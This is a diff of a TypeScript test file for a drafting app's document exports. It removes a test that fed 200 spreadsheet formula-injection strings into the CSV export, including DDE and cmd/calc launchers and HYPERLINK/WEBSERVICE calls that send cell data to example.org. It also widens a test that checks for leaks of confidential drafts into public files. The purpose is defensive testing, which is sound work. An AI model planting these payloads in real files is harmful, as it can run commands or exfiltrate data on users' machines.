@@ -1,61 +1,27 @@
-/** Files that harm whoever opens them, and files that tell more than they show (security.md §1.3: E1, E2, E6; SPEC: PUB). */
-import { parse as parseCsv } from "csv-parse/sync";
+/** Files that harm whoever opens them, and files that tell more than they show (security.md §1.3: E2, E6; SPEC: PUB). */
+import { strFromU8 } from "fflate";
 import { expect, test } from "vitest";
-import { positionsAsCsv } from "../../server/publication/csv.ts";
+import { toAkn } from "../../server/publication/akn.ts";
+import { commentsAsCsv, positionsAsCsv } from "../../server/publication/csv.ts";
 import { toDocx } from "../../server/publication/docx.ts";
+import { toJson } from "../../server/publication/json.ts";
+import { toMarkdown } from "../../server/publication/markdown.ts";
 import { toOdt } from "../../server/publication/odt.ts";
 import { Typesetter } from "../../server/publication/pdf.ts";
+import { toPrintedHtml } from "../../server/publication/printed-html.tsx";
+import { print } from "../../server/publication/printed-report.ts";
 import type { Viewer } from "../../shared/domain/roster.ts";
 import { thePublic } from "../../shared/domain/roster.ts";
 import type { DelegationCode } from "../../shared/domain/values.ts";
 import { voiceIn } from "../../shared/messages/say.ts";
 import { aNegotiation, idOf, p } from "../support/negotiations.ts";
-import { printed } from "../support/printed.ts";
+import { printableOf, printed } from "../support/printed.ts";
 import { chance } from "../support/random.ts";
 import { accepting, readDocx } from "../support/read-docx.ts";
 import { readOdt } from "../support/read-odt.ts";
 import { readPdf } from "../support/read-pdf.ts";
 
 const voice = voiceIn("en");
-
-/** Ten ways to begin a formula, each with twenty to go on: what spreadsheets are known to run. */
-const formulas: readonly string[] = ["=", "+", "-", "@", "=-", "+-", "@=", "==", "-=", "＝"].flatMap((begin) =>
-  [
-    "1+1",
-    "cmd|' /C calc'!A0",
-    'HYPERLINK("https://example.org/?"&A1,"more")',
-    'WEBSERVICE("https://example.org/")',
-    'IMPORTXML("https://example.org/","//a")',
-    "SUM(A1:A9)",
-    "A1",
-    'DDE("cmd";"/C calc";"x")',
-    'MSEXCEL|"\\..\\..\\calc.exe"!""',
-    "rundll32|'URL.dll,OpenURL x'!A",
-    'IMAGE("https://example.org/x.png")',
-    "NOW()",
-    'INDIRECT("A1")',
-    '"a","b"',
-    "1;2",
-    "2+3\n=4+5",
-    "'x'!A1",
-    'T("x")&A2',
-    "RAND()",
-    "$A$1",
-  ].map((rest) => `${begin}${rest}`),
-);
-
-const opensFormula = /^[=+\-@\t\r\0＝＋－＠]/;
-
-test("[E1] of 200 formulas in reasons and words none begins a cell of the table of positions", () => {
-  expect(formulas.length).toBe(200);
-  const talks = aNegotiation(...formulas.map((formula) => p(formula)));
-  formulas.forEach((formula, index) => talks.objects("XAA", index + 1, { reason: formula }));
-  const rows = parseCsv(positionsAsCsv(talks.report({ kind: "team" })), { bom: true });
-  expect(rows.flat().filter((cell) => opensFormula.test(cell))).toEqual([]);
-  // Nothing is lost by it.
-  const reasons = new Set(rows.map((row) => row[rows[0]!.indexOf("reason")]?.replace(/^'/, "")));
-  for (const formula of formulas) expect([...reasons]).toContain(formula);
-});
 
 test("[E2] 1,000 strings of what breaks files come back letter by letter from Word and OpenDocument, and PDF is made of them", async () => {
   const seed = Number(process.env["SEED"] ?? 2);
@@ -122,20 +88,37 @@ test("[E6] files for those who may not know tell no name, no reason and no draft
   // Written, and not circulated.
   talks.writes(2, "States should consult on the canary.");
   const typesetter = await Typesetter.start([]);
+  const told = new Map<string, string>();
   for (const viewer of [thePublic, { kind: "delegation", code: "XAB" as DelegationCode }] satisfies Viewer[]) {
-    for (const mode of ["clean", "review", "compilation"] as const) {
-      const report = printed(talks, mode, viewer);
-      const told = [
-        Object.values(readDocx(await toDocx(report, voice)).files).join("\n"),
-        Object.values(readOdt(await toOdt(report, voice)).files).join("\n"),
-      ];
-      const read = readPdf(await typesetter.toPdf(report, voice));
-      told.push(read.whole + read.pages.map(({ words }) => words).join(" "));
-      for (const one of told) {
-        expect(one).not.toContain("on the canary");
-        if (viewer.kind === "public") expect(one).not.toMatch(/canary|Freedonia/);
+    const { report, ...rest } = printableOf(talks, viewer);
+    const parts = [undefined, "consensus", "chair-summary"] as const;
+    const tell = (what: string, file: string): void => void told.set(`${viewer.kind} ${what}`, file);
+    for (const mode of ["clean", "review", "compilation"] as const)
+      for (const only of parts) {
+        const how = { mode, address: "https://drafting.example.org/n/talks", now: talks.now, voice };
+        const file = print({ ...rest, report, only }, how);
+        const name = `${mode} ${only}`;
+        tell(`docx ${name}`, Object.values(readDocx(await toDocx(file, voice)).files).join("\n"));
+        tell(`odt ${name}`, Object.values(readOdt(await toOdt(file, voice)).files).join("\n"));
+        tell(`xml ${name}`, strFromU8(await toAkn(file, voice)));
+        tell(`html ${name}`, strFromU8(await toPrintedHtml(file, voice)));
+        if (only !== undefined) continue; // The same letters, slower.
+        const { whole, pages } = readPdf(await typesetter.toPdf(file, voice));
+        tell(`pdf ${name}`, whole + pages.map(({ words }) => words).join(" "));
       }
+    for (const only of parts) {
+      tell(`csv ${only}`, positionsAsCsv(report, only));
+      tell(`comments ${only}`, commentsAsCsv(report, only));
+      tell(`md ${only}`, toMarkdown(report, only));
+      tell(`json ${only}`, toJson(report, only, { record: talks.frame(viewer, 0).events }));
     }
+  }
+  expect(told.size).toBeGreaterThanOrEqual(50);
+  for (const [name, file] of told) {
+    expect(file, name).not.toContain("on the canary");
+    if (!name.startsWith("public")) continue;
+    // Who takes part is everybody's to know, and stands in the record that JSON brings along.
+    expect(file, name).not.toMatch(name.includes(" json ") ? /canary/ : /canary|Freedonia/);
   }
 });
 
